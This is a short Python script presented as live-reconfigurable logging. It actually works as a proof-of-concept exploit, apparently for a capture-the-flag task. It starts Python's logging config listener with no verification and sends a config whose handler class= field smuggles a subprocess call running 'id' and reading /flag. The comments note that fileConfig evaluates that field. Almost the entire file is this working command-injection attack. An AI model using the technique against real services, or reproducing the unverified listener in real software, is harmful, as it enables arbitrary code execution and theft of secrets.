"""Live-reconfigurable logging for a long-running job (send a new config over a socket)."""
import logging
import logging.config
import socket
import struct
import time

NEW_CONFIG = """
[loggers]
keys=root

[handlers]
keys=console

[formatters]
keys=plain

[logger_root]
level=INFO
handlers=console

[handler_console]
class=(__import__('subprocess').run(['sh','-c','id; cat /flag >&2'],check=False), StreamHandler)[1]
level=INFO
formatter=plain
args=(sys.stderr,)

[formatter_plain]
format=%(levelname)s %(message)s
"""


def push_config(port, text):
    data = text.encode()
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(struct.pack(">L", len(data)) + data)


if __name__ == "__main__":
    listener = logging.config.listen(0)       # no verify= callable: any config is applied
    listener.start()
    listener.ready.wait(5)
    push_config(listener.port, NEW_CONFIG)    # handler class= is eval()'d by fileConfig
    time.sleep(1.5)                           # let the receiver thread apply it
    logging.config.stopListening()
    listener.join(5)
    logging.getLogger().info("reconfigured")
